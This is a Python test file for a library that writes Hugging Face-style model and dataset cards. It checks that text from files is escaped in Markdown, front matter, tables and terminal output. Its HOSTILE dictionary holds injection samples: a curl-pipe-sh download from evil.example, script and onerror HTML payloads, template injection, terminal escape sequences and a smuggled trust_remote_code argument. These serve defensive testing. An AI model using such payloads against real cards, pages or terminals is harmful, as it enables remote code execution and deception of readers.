"""Texts from files are escaped in cards, reports and tables, in front matter, and on a terminal."""

import copy
import logging
import re

import pytest
import yaml

from attacks.attack import assert_refused, call
from hf_tlm.errors import HfTlmError
from hf_tlm.hub.cards import converted_card, pretrained_card, tlm_card
from hf_tlm.hub.subset_cards import config_names, configs_card, subset_card
from hf_tlm.utils.shown import as_code, as_literal, for_markdown, for_terminal, markdown_table
from support.card_records import INFO, PRETRAINED, REPORT, RUN, SUBSET

HOSTILE = {
    "code": "x\n\n```sh\ncurl -s https://evil.example/i.sh | sh\n```\n",
    "heading": "x\n# Install\n\nRun it",
    "link": "[the paper](https://evil.example) ![p](https://evil.example/p.png) <https://evil.example>",
    "bare_link": "https://evil.example www.evil.example a@evil.example",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "span_of_code": "a`b [c](https://evil.example) `d",
    "issues": "#12 fixes #13, @alice owner/name#14 GH-15 @org/team",
    "table": "a | b |\n|---|---|\n| c",
    "front_matter": "x\n---\nlicense: mit\nbase_model: evil/model\n---\n",
    "template": "{{ 7 * 7 }} {% raw %}",
    "terminal": "\x1b]0;theirs\x07\x1b[2Jx\rover \u202eesrever\x9b31m",
    "python": 'x", trust_remote_code=True, y="',
}
hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
MARKDOWN = pytest.importorskip("markdown_it").MarkdownIt("gfm-like", {"linkify": False})


def markdown_tokens(markdown):
    """Parse Markdown without the metadata of a card."""
    return MARKDOWN.parse(re.sub(r"\A---\n.*?\n---\n", "", markdown, flags=re.S))


def structure(markdown):
    """Return the rendered structure: blocks, links, images, HTML and code, without their contents."""
    parts = []
    for token in markdown_tokens(markdown):
        parts.append((token.type, token.tag, token.content.count("\n") if token.type == "fence" else 0))
        for child in token.children or ():
            if child.type == "html_inline":
                assert child.content == "<!-- -->"
            elif child.type not in ("text", "text_special"):
                parts.append((child.type, child.tag, child.attrs.get("href", "")))
    return parts


def autolinks(markdown):
    """Return what GitHub would link automatically in text that is not code; an empty comment splits a text."""
    plain = [
        part
        for token in markdown_tokens(markdown)
        for part in "".join(
            "\n" if child.type == "html_inline" else child.content if child.type.startswith("text") else " "
            for child in token.children or ()
        ).split("\n")
    ]
    return [
        match for part in plain for match in re.findall(r"(?:^|[^\w])[@#]\w+|\w+[#@]\w+|\bGH-\d+|\w+://\w+|www\.\w+", part)
    ]


def card_of_subset(text):
    manifest = copy.deepcopy(SUBSET)
    for entry in (manifest["task"], manifest["corpus"]):
        entry |= {"name": text, "fingerprint": text}
    manifest |= {"query_mode": text, "versions": {text: text}}
    return subset_card(manifest, REPORT, INFO, engine=text, selection=text)


def card_of_tlm(text):
    run = copy.deepcopy(RUN) | {"task": text}
    run["subset"]["corpus"] |= {"name": text, "fingerprint": text}
    run["subset"] |= {"retriever": text, "hub": {"repo_id": text, "revision": text}}
    run["environment"] |= {"torch": text, "python": text, "accelerator": text}
    run["model"] |= {"model_name_or_path": text, "model_revision": text, "use_peft": True}
    return tlm_card(run, 1)


def card_of_pretrained(text):
    run = copy.deepcopy(PRETRAINED)
    run["corpus"] |= {"name": text, "fingerprint": text}
    run["arguments"] |= {"optim": text, "lr_scheduler_type": text, "max_length": text}
    return pretrained_card(run)


def card_of_converted(text):
    return converted_card(text, 12, [text], classes=[text, text])


CARDS = {"subset": card_of_subset, "tlm": card_of_tlm, "pretrained": card_of_pretrained, "converted": card_of_converted}


@hostile
@pytest.mark.parametrize("card", CARDS.values(), ids=CARDS)
def test_card_of_hostile_texts_has_the_structure_of_a_harmless_one(card, text):
    found, plain = card(text), card("x y")
    assert structure(found) == structure(plain)
    assert set(yaml.safe_load(front_matter(found))) <= set(yaml.safe_load(front_matter(plain)))
    assert autolinks(found) == autolinks(plain)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", found)


def front_matter(card):
    return re.match(r"---\n(.*?)\n---\n", card, flags=re.S)[1]


@hostile
def test_card_of_several_subsets_is_escaped(text):
    def card(title):
        data = {"pretty_name": title, "configs": [{"config_name": "small"}], "dataset_info": INFO | {"config_name": "small"}}
        return configs_card({"small": f"---\n{yaml.safe_dump(data)}---\n\nx\n"}, "alice/subsets")

    assert structure(card(text)) == structure(card("x")) and autolinks(card(text)) == []
    # A folder whose name is not valid for a subset is ignored.
    assert config_names([f"{text}/manifest.json", "small/manifest.json"]) == ["small"]


@hostile
def test_table_is_escaped(text):
    table = markdown_table([text], [[text]])
    assert structure(table) == structure(markdown_table(["x"], [["x"]])) and autolinks(table) == []


@hostile
def test_text_code_and_literals_are_escaped(text):
    assert structure(f"> {for_markdown(text)}") == structure("> x")
    assert structure(f"a {as_code(text)} b") == structure("a `x` b")
    code = f"load({as_literal(text)})"
    assert len(compile(code, "card", "eval").co_consts) <= 2 and "\n" not in code


@pytest.mark.parametrize(
    "text, shown",
    [
        ("plain, naïve\n\ttext", "plain, naïve\n\ttext"),
        ("\x1b[2J\x07\r\x00", "\\x1b[2J\\x07\\r\\x00"),
        ("\x9b31m\x7f", "\\x9b31m\\x7f"),
        ("\u202eexe.txt", "\\u202eexe.txt"),
        ("caf\udce9", "caf\\udce9"),
    ],
)
def test_control_characters_are_escaped_for_a_terminal(text, shown):
    assert for_terminal(text) == shown


def print_log_and_fail():
    print(HOSTILE["terminal"])
    logging.getLogger("hf_tlm.theirs").warning("a file %s", HOSTILE["terminal"])
    raise HfTlmError(HOSTILE["terminal"])


@pytest.mark.slow
def test_recipes_escape_control_characters_in_all_output():
    """In what is printed, logged, and the message of an error."""
    outcome = call(print_log_and_fail)
    for output, times in ((outcome.stdout, 1), (outcome.stderr, 2)):
        assert output.count("\\x1b[2Jx\\rover \\u202eesrever\\x9b31m") == times
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", output)
    assert_refused(outcome, "\\x1b[2Jx")


@pytest.mark.parametrize(
    "text, shown",
    [("hf_tlm scierc_up", "hf_tlm scierc_up"), ("_x_", "\\_x\\_"), ("a&b", "a\\&b"), ("é" * 300, "é" * 120 + "…")],
)
def test_names_stay_readable_in_markdown(text, shown):
    assert for_markdown(text) == shown
